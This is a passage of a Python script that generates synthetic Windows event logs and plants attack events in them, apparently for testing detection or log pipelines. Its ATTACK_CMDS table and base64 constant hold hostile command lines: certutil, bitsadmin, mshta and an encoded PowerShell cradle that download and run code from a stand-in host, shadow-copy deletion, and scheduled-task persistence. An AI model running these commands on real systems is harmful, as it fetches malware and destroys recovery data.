                ("TargetUserName", r.choice(self.users)[0]), ("TargetDomainName", "ACME"),
                ("TargetLogonGuid", "{%s}" % self.rawguid()), ("TargetServerName", r.choice(self.hosts)[0]),
                ("TargetInfo", "HTTP/" + r.choice(self.hosts)[0]), ("ProcessId", "0x%x" % r.randrange(100, 20000)),
                ("ProcessName", SYS32 + r"\svchost.exe"), ("IpAddress", "-"), ("IpPort", "-"))) + "</EventData>"
        fail = eid == 4625
        pairs = [("SubjectUserSid", "S-1-5-18"), ("SubjectUserName", host[0].split(".")[0] + "$"),
                 ("SubjectDomainName", "ACME"), ("SubjectLogonId", "0x3e7"), ("TargetUserSid", "S-1-0-0" if fail else u[1]),
                 ("TargetUserName", u[0]), ("TargetDomainName", "ACME")]
        if fail:
            pairs += [("Status", "0xc000006d"), ("FailureReason", "%%2313"), ("SubStatus", r.choice(("0xc000006a", "0xc0000064")))]
        else:
            pairs += [("TargetLogonId", "0x%x" % r.getrandbits(28))]
        pairs += [("LogonType", ltype), ("LogonProcessName", "NtLmSsp " if ltype == 3 else "User32 "),
                  ("AuthenticationPackageName", "NTLM" if ltype == 3 else "Negotiate"), ("WorkstationName", src[0].split(".")[0]),
                  ("LogonGuid", "{00000000-0000-0000-0000-000000000000}"), ("TransmittedServices", "-"),
                  ("LmPackageName", "NTLM V2" if ltype == 3 else "-"), ("KeyLength", 128 if ltype == 3 else 0),
                  ("ProcessId", "0x0" if ltype == 3 else "0x%x" % r.randrange(100, 2000)),
                  ("ProcessName", "-" if ltype == 3 else SYS32 + r"\svchost.exe"),
                  ("IpAddress", src[1] if r.random() < 0.97 else self.public_ip()), ("IpPort", r.randrange(49152, 65535))]
        if not fail:
            pairs += [("ImpersonationLevel", "%%1833"), ("RestrictedAdminMode", "-"), ("TargetOutboundUserName", "-"),
                      ("TargetOutboundDomainName", "-"), ("VirtualAccount", "%%1843"), ("TargetLinkedLogonId", "0x0"),
                      ("ElevatedToken", "%%1842")]
        return self.sys_security(host, eid, 12544, st, failure=fail, version=0 if fail else 2) + "<EventData>" + self.data(pairs) + "</EventData>"

    def sec_object(self, host, st, ut, eid):
        r = self.r
        u = r.choice(self.users)
        if eid == 4663:
            return self.sys_security(host, 4663, 12800, st, version=1) + "<EventData>" + self.data((
                ("SubjectUserSid", u[1]), ("SubjectUserName", u[0]), ("SubjectDomainName", "ACME"),
                ("SubjectLogonId", "0x%x" % r.getrandbits(28)), ("ObjectServer", "Security"), ("ObjectType", "File"),
                ("ObjectName", self.fill(r.choice(TARGET_FILES), u)), ("HandleId", "0x%x" % r.getrandbits(12)),
                ("AccessList", "%%4416"), ("AccessMask", "0x1"), ("ProcessId", "0x%x" % r.randrange(100, 20000)),
                ("ProcessName", self.pick_proc()[0]), ("ResourceAttributes", "S:AI"))) + "</EventData>"
        # 4662 directory service access
        return self.sys_security(host, 4662, 14080, st) + "<EventData>" + self.data((
            ("SubjectUserSid", u[1]), ("SubjectUserName", u[0]), ("SubjectDomainName", "ACME"),
            ("SubjectLogonId", "0x%x" % r.getrandbits(28)), ("ObjectServer", "DS"),
            ("ObjectType", "%{bf967aba-0de6-11d0-a285-00aa003049e2}"),
            ("ObjectName", "%%{%s}" % self.rawguid().lower()), ("OperationType", "Object Access"), ("HandleId", "0x0"),
            ("AccessList", "%%7688"), ("AccessMask", "0x100"),
            ("Properties", "%%7688 {1131f6aa-9c07-11d1-f79f-00c04fc2dcd2} {19195a5b-6da0-11d0-afd3-00c04fd930c9}"),
            ("AdditionalInfo", "-"), ("AdditionalInfo2", ""))) + "</EventData>"

    def sec_account(self, host, st, ut, eid):
        r = self.r
        u, admin = r.choice(self.users), self.users[-1]
        dc = r.choice(self.dcs)
        if eid == 4738:
            return self.sys_security(dc, 4738, 13824, st) + "<EventData>" + self.data((
                ("Dummy", "-"), ("TargetUserName", u[0]), ("TargetDomainName", "ACME"), ("TargetSid", u[1]),
                ("SubjectUserSid", admin[1]), ("SubjectUserName", admin[0]), ("SubjectDomainName", "ACME"),
                ("SubjectLogonId", "0x%x" % r.getrandbits(24)), ("PrivilegeList", "-"), ("SamAccountName", "-"),
                ("DisplayName", "-"), ("UserPrincipalName", "-"), ("HomeDirectory", "-"), ("HomePath", "-"),
                ("ScriptPath", "-"), ("ProfilePath", "-"), ("UserWorkstations", "-"),
                ("PasswordLastSet", r.choice(("-", "3/%d/2024 %d:%02d:11 AM" % (r.randrange(1, 28), r.randrange(1, 12), r.randrange(60))))),
                ("AccountExpires", "-"), ("PrimaryGroupId", "-"), ("AllowedToDelegateTo", "-"), ("OldUacValue", "0x210"),
                ("NewUacValue", "0x210"), ("UserAccountControl", "-"), ("UserParameters", "-"), ("SidHistory", "-"),
                ("LogonHours", "-"))) + "</EventData>"
        if eid in (4768, 4769):
            src = r.choice(self.hosts)
            pairs = [("TargetUserName", "%s@ACME.LOCAL" % u[0] if eid == 4769 else u[0]), ("TargetDomainName", "ACME.LOCAL")]
            if eid == 4768:
                pairs += [("TargetSid", u[1]), ("ServiceName", "krbtgt"), ("ServiceSid", self.domain_sid + "-502")]
            else:
                pairs += [("ServiceName", r.choice(self.hosts)[0].split(".")[0] + "$"), ("ServiceSid", self.domain_sid + "-%d" % r.randrange(1000, 3000))]
            pairs += [("TicketOptions", r.choice(("0x40810010", "0x40810000", "0x60810010"))), ("Status", "0x0"),
                      ("TicketEncryptionType", r.choice(("0x12", "0x12", "0x17"))),
                      ("PreAuthType" if eid == 4768 else "LogonGuid", "2" if eid == 4768 else "{%s}" % self.rawguid()),
                      ("IpAddress", "::ffff:" + src[1]), ("IpPort", r.randrange(49152, 65535))]
            if eid == 4768:
                pairs += [("CertIssuerName", ""), ("CertSerialNumber", ""), ("CertThumbprint", "")]
            else:
                pairs += [("TransmittedServices", "-")]
            return self.sys_security(dc, eid, 14339 if eid == 4768 else 14337, st) + "<EventData>" + self.data(pairs) + "</EventData>"
        # 4886 / 4887 certificate services
        pairs = [("RequestId", r.randrange(1, 99999)), ("Requester", "ACME\\" + u[0])]
        if eid == 4887:
            pairs += [("Attributes", "CertificateTemplate:User"), ("Disposition", "3"),
                      ("SubjectKeyIdentifier", hashlib.sha1(u[0].encode()).hexdigest()[:40]),
                      ("Subject", "CN=%s, CN=Users, DC=acme, DC=local" % u[0])]
        else:
            pairs += [("Attributes", "CertificateTemplate:User ccm:%s" % host[0])]
        return self.sys_security(dc, eid, 12805, st) + "<EventData>" + self.data(pairs) + "</EventData>"

    def ps_4104(self, host, st, ut, text=None):
        r = self.r
        self.rec[host[0], 3] += 1
        text = text or self.fill(r.choice(SCRIPTS), host[3])
        return ("<System>%s<EventID>4104</EventID><Version>1</Version><Level>5</Level><Task>2</Task><Opcode>15</Opcode>"
                "<Keywords>0x0</Keywords><TimeCreated SystemTime='%s'/><EventRecordID>%d</EventRecordID>"
                "<Correlation ActivityID='{%s}'/><Execution ProcessID='%d' ThreadID='%d'/>"
                "<Channel>Microsoft-Windows-PowerShell/Operational</Channel><Computer>%s</Computer>"
                "<Security UserID='%s'/></System><EventData>"
                % (PS_PROV, st, self.rec[host[0], 3], self.rawguid().lower(), r.randrange(100, 20000),
                   r.randrange(100, 20000), host[0], host[3][1])) + self.data((
                    ("MessageNumber", 1), ("MessageTotal", 1), ("ScriptBlockText", text.replace("\r\n", "&#xD;&#xA;")),
                    ("ScriptBlockId", self.rawguid().lower()), ("Path", ""))) + "</EventData>"

    def system_evt(self, host, st, ut, eid):
        r = self.r
        self.rec[host[0], 4] += 1
        svc = r.choice(("Windows Update", "Background Intelligent Transfer Service", "Windows Modules Installer",
                        "Microsoft Defender Antivirus Service", "Print Spooler", "WinHTTP Web Proxy Auto-Discovery Service"))
        if eid == 7036:
            body = self.data((("param1", svc), ("param2", r.choice(("running", "stopped"))),
                              ("Binary", "%X" % r.getrandbits(64))))
        else:
            body = self.data((("ServiceName", svc + " Helper"), ("ImagePath", r'"C:\Program Files\Vendor\%s\svc.exe"' % svc.split()[0]),
                              ("ServiceType", "user mode service"), ("StartType", "auto start"), ("AccountName", "LocalSystem")))
        return ("<System>%s<EventID Qualifiers='16384'>%d</EventID><Version>0</Version><Level>4</Level><Task>0</Task>"
                "<Opcode>0</Opcode><Keywords>0x8080000000000000</Keywords><TimeCreated SystemTime='%s'/>"
                "<EventRecordID>%d</EventRecordID><Correlation/><Execution ProcessID='%d' ThreadID='%d'/>"
                "<Channel>System</Channel><Computer>%s</Computer><Security/></System><EventData>"
                % (SCM_PROV, eid, st, self.rec[host[0], 4], 700 + int(host[2][:2], 16), r.randrange(1000, 9000), host[0])
                ) + body + "</EventData>"

    # ---- planted attacks -----------------------------------------------------------------------
    def plant(self, host, st, ut):
        r = self.r
        fw = [r"C:\Windows\Microsoft.NET\Framework64\v4.0.30319", r"C:\Windows\Microsoft.NET\Framework\v4.0.30319"]
        u = host[3]
        uname = "ACME\\" + u[0]
        kind = PLANTS[self.plant_i % len(PLANTS)]
        self.plant_i += 1
        self.planted[kind] += 1
        if kind in ("regasm_public", "regsvcs_public", "regasm_private"):
            exe = "RegAsm.exe" if kind != "regsvcs_public" else "RegSvcs.exe"
            ip = ("203.0.113.%d" % r.randrange(1, 255)) if kind != "regasm_private" else self.private_ip()
            return self.sysmon_3(host, st, ut, image=r.choice(fw) + "\\" + exe, dest_ip=ip, user=uname, port=443)
        if kind == "regasm_child":
            return self.sysmon_1(host, st, ut, proc=PROC_BY_NAME["cmd.exe"], cmd=r'C:\Windows\system32\cmd.exe /c whoami /all',
                                 parent="RegAsm.exe", parent_cmd=r'"%s\RegAsm.exe" /U C:\Users\Public\a.dll' % fw[0], user=(uname, u))
        proc, cmd, parent = ATTACK_CMDS[kind]
        cmd = cmd.format(u=u[0], n=r.randrange(1, 9999), b64=B64)
        if kind.endswith("_4688"):
            return self.sec_4688(host, st, ut, proc=PROC_BY_NAME[proc], cmd=cmd, parent=parent)
        return self.sysmon_1(host, st, ut, proc=PROC_BY_NAME[proc], cmd=cmd, parent=parent, user=(uname, u))

    # ---- driver ----------------------------------------------------------------------------------
    def event(self):
        r = self.r
        self.n += 1
        st, ut = self.times()
        host = self.hosts[int(len(self.hosts) * r.random() ** 1.6)]  # a few busy hosts, a long tail
        if self.n % PLANT_EVERY == PLANT_EVERY // 2:
            body = self.plant(host, st, ut)
        else:
            x = r.random() * self.cum[-1]
            i = 0
            cum = self.cum
            while cum[i] < x:
                i += 1
            ch, eid = self.mix[i]
            if ch == "sysmon":
                if eid == 1:
                    body = self.sysmon_1(host, st, ut)
                elif eid == 3:
                    body = self.sysmon_3(host, st, ut)
                elif eid == 5:
                    body = self.sysmon_5(host, st, ut)
                elif eid == 7:
                    body = self.sysmon_7(host, st, ut)
                elif eid == 10:
                    body = self.sysmon_10(host, st, ut)
                elif eid in (11, 23):
                    body = self.sysmon_11(host, st, ut, eid)
                elif eid in (12, 13):
                    body = self.sysmon_12(host, st, ut, eid)
                else:
                    body = self.sysmon_22(host, st, ut)
            elif ch == "security":
                if eid == 4688:
                    body = self.sec_4688(host, st, ut)
                elif eid in (4624, 4625, 4634, 4672, 4648):
                    body = self.sec_logon(host, st, ut, eid)
                elif eid in (4663, 4662):
                    body = self.sec_object(r.choice(self.dcs) if eid == 4662 else host, st, ut, eid)
                else:
                    body = self.sec_account(host, st, ut, eid)
            elif ch == "powershell":
                body = self.ps_4104(host, st, ut)
            else:
                body = self.system_evt(host, st, ut, eid)
        return NS + body + "</Event>\r\n"


PROC_BY_NAME = {p[0].rsplit("\\", 1)[1]: p for p in PROCS}
PROC_BY_NAME.update({
    "certutil.exe": (SYS32 + r"\certutil.exe", "CertUtil.exe", "CertUtil.exe", ["cmd.exe"], [], 0),
    "vssadmin.exe": (SYS32 + r"\vssadmin.exe", "VSSADMIN.EXE", "Command Line Interface for Microsoft® Volume Shadow Copy Service ", ["cmd.exe"], [], 0),
    "schtasks.exe": (SYS32 + r"\schtasks.exe", "schtasks.exe", "Task Scheduler Configuration Tool", ["cmd.exe"], [], 0),
    "wmic.exe": (SYS32 + r"\wbem\WMIC.exe", "wmic.exe", "WMI Commandline Utility", ["cmd.exe"], [], 0),
    "mshta.exe": (SYS32 + r"\mshta.exe", "MSHTA.EXE", "Microsoft (R) HTML Application host", ["explorer.exe"], [], 0),
    "bitsadmin.exe": (SYS32 + r"\bitsadmin.exe", "bitsadmin.exe", "BITS administration utility", ["cmd.exe"], [], 0),
})
B64 = base64.b64encode("IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.23/a.ps1')".encode("utf-16-le")).decode()
ATTACK_CMDS = {
    "certutil": ("certutil.exe", r"certutil.exe -urlcache -split -f http://198.51.100.23/payload.exe C:\Users\Public\p{n}.exe", "cmd.exe"),
    "powershell_enc": ("powershell.exe", "powershell.exe -nop -w hidden -enc {b64}", "cmd.exe"),
    "rundll32_dllregisterserver": ("rundll32.exe", r"rundll32.exe C:\Users\{u}\AppData\Local\Temp\x{n}.dll,DllRegisterServer", "cmd.exe"),
    "vssadmin_delete": ("vssadmin.exe", "vssadmin.exe delete shadows /all /quiet", "cmd.exe"),
    "wmic_shadowcopy": ("wmic.exe", "wmic.exe shadowcopy delete /nointeractive", "cmd.exe"),
    "schtasks_create": ("schtasks.exe", r'schtasks.exe /create /tn "Updater{n}" /tr "C:\Users\Public\upd.exe" /sc minute /mo 5 /f', "cmd.exe"),
    "mshta_http": ("mshta.exe", "mshta.exe http://198.51.100.23/a.hta", "explorer.exe"),
    "bitsadmin_transfer": ("bitsadmin.exe", r"bitsadmin.exe /transfer job{n} /download /priority high http://198.51.100.23/b.exe C:\Users\Public\b.exe", "cmd.exe"),
    "certutil_4688": ("certutil.exe", r"certutil.exe -urlcache -split -f http://198.51.100.23/payload.exe C:\Users\Public\p{n}.exe", "cmd.exe"),
    "vssadmin_delete_4688": ("vssadmin.exe", "vssadmin.exe delete shadows /all /quiet", "cmd.exe"),
}
PLANTS = ["regasm_public", "certutil", "regsvcs_public", "powershell_enc", "regasm_private",
          "rundll32_dllregisterserver", "regasm_child", "vssadmin_delete", "schtasks_create", "wmic_shadowcopy",
          "mshta_http", "bitsadmin_transfer", "certutil_4688", "vssadmin_delete_4688"]


XML_ENTITIES = {"&amp;": "&", "&lt;": "<", "&gt;": ">", "&apos;": "'", "&quot;": '"'}
SYSTEM_RE = [(k, re.compile(r)) for k, r in (("EventID", r"<EventID[^>]*>(\d+)<"),
                                              ("TimeCreated", r"SystemTime='([^']+)'"),
                                              ("Channel", r"<Channel>([^<]*)<"),
                                              ("Computer", r"<Computer>([^<]*)<"))]
DATA_RE = re.compile(r"<Data Name='([^']+)'>([^<]*)</Data>")
ENTITY_RE = re.compile(r"&(?:amp|lt|gt|apos|quot);")


def as_json(event):
    """One XML record as a flat JSON line: its System fields, then its EventData by name."""
    obj = {}
    for key, rx in SYSTEM_RE:
        m = rx.search(event)
        if m:
            obj[key] = m.group(1)
    for name, value in DATA_RE.findall(event):
        obj[name] = ENTITY_RE.sub(lambda m: XML_ENTITIES[m.group(0)], value)
    return json.dumps(obj) + "\n"


def generate(size_mib, out, seed, as_json_lines=False):
    g = Gen(seed)
    limit = size_mib * 1024 * 1024
    written = 0
    t0 = time.time()
    with open(out, "wb") as f:
        while written < limit:
            events = [g.event() for _ in range(2000)]
            if as_json_lines:
                events = [as_json(e) for e in events]
            chunk = "".join(events).encode("utf-8")
            # keep the file at most N MiB, on an event boundary
            if written + len(chunk) > limit:
                end = b"\n" if as_json_lines else b"\r\n"
                cut = chunk.rfind(end, 0, limit - written)
                chunk = chunk[:cut + len(end)] if cut >= 0 else b""
                if not chunk:
                    break
            f.write(chunk)
            written += len(chunk)
    dt = time.time() - t0
    sys.stderr.write("wrote %s: %d bytes, %.1f s (%.0f MB/s); planted attack events: %s\n"
                     % (out, written, dt, written / 1e6 / max(dt, 1e-9), dict(g.planted)))


def measure(roots):
    """Print the channel/EventID mix, event sizes and value variety of real XmlWinEventLog files."""
    ev_re = re.compile(r"<Event xmlns=.*?</Event>", re.S)
    seen, per, sizes, nd = set(), collections.Counter(), collections.defaultdict(list), collections.Counter()
    comp, users, imgs, files = set(), set(), set(), 0
    paths = []
    for root in roots:
        if os.path.isfile(root):
            paths.append(root)
        for dp, _, fs in os.walk(root):
            paths += [os.path.join(dp, fn) for fn in sorted(fs)]
    if True:
        for path in paths:
            if True:
                try:
                    b = open(path, "rb").read()
                except OSError:
                    continue
                if b"<Event xmlns" not in b:
                    continue
                files += 1
                for m in ev_re.finditer(b.decode("utf-8", "replace")):
                    e = m.group(0)
                    h = hashlib.md5(e.encode()).digest()
                    if h in seen:  # attack_data_history holds many copies of the same file
                        continue
                    seen.add(h)
                    eid = re.search(r"<EventID[^>]*>(\d+)<", e)
                    ch = re.search(r"<Channel>([^<]*)<", e)
                    key = (ch.group(1) if ch else "?", eid.group(1) if eid else "?")
                    per[key] += 1
                    sizes[key].append(len(e.encode()))
                    nd[key] += e.count("<Data ")
                    c = re.search(r"<Computer>([^<]*)<", e)
                    comp.add(c.group(1) if c else "")
                    for k, s in (("User", users), ("SubjectUserName", users), ("TargetUserName", users),
                                 ("Image", imgs), ("NewProcessName", imgs)):
                        s.update(re.findall(r"<Data Name='%s'>([^<]*)<" % k, e))
    n = sum(per.values())
    print("%d files with XmlWinEventLog events, %d distinct events\n" % (files, n))
    print("| channel | EventID | events | share | median bytes | Data fields |\n|---|---|---|---|---|---|")
    for (ch, eid), c in per.most_common():
        s = sorted(sizes[ch, eid])
        print("| %s | %s | %d | %.1f %% | %d | %d |" % (ch, eid, c, 100.0 * c / n, s[len(s) // 2], nd[ch, eid] // c))
    al = sorted(x for v in sizes.values() for x in v)
    print("\nevent bytes: mean %d, p50 %d, p90 %d, p99 %d, max %d" % (sum(al) // n, al[n // 2], al[int(n * .9)],
                                                                      al[int(n * .99)], al[-1]))
    print("distinct Computer %d, users %d, images %d" % (len(comp), len(users), len(imgs)))


def main():
    ap = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    ap.add_argument("--size-mib", type=int)
    ap.add_argument("--out")
    ap.add_argument("--seed", type=int, default=1)
    ap.add_argument("--json", action="store_true", help="write the events as JSON lines")
    ap.add_argument("--measure", nargs="+", metavar="DIR", help="print the mix of real files instead")
    a = ap.parse_args()
    if a.measure:
        measure(a.measure)
    elif a.size_mib and a.out:
        generate(a.size_mib, a.out, a.seed, a.json)
    else:
        ap.error("need --size-mib and --out, or --measure")


if __name__ == "__main__":
    main()
